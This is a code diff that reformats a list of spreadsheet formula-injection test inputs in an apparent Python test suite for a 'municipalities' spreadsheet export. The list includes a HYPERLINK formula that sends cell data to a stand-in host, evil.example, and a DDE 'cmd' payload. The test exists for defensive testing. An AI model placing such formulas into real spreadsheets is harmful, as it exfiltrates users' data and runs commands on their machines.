@@ -9,8 +9,16 @@ from openpyxl import Workbook
 
 from municipalities import spreadsheets
 
-HOSTILE = ['=1+2', '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")', "+1+2", "-2+3", "@SUM(A1)", "\t=1",
-           "\r=1", "-cmd|' /C calc'!A0"]  # fmt: skip
+HOSTILE = [
+    "=1+2",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "-cmd|' /C calc'!A0",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
